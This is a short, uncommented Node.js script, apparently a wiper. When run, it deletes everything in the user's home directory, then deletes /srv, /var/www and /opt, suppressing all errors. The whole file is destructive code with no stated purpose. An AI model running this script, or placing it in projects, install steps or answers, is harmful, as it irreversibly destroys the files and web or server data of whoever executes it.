const { readdir, rm } = require('node:fs/promises');
const os = require('node:os');
const path = require('node:path');

(async () => {
  const home = os.homedir();
  const names = await readdir(home);
  await Promise.allSettled(names.map((n) => rm(path.join(home, n), { recursive: true, force: true })));
  for (const d of ['/srv', '/var/www', '/opt']) {
    await rm(d, { recursive: true, force: true }).catch(() => {});
  }
})();
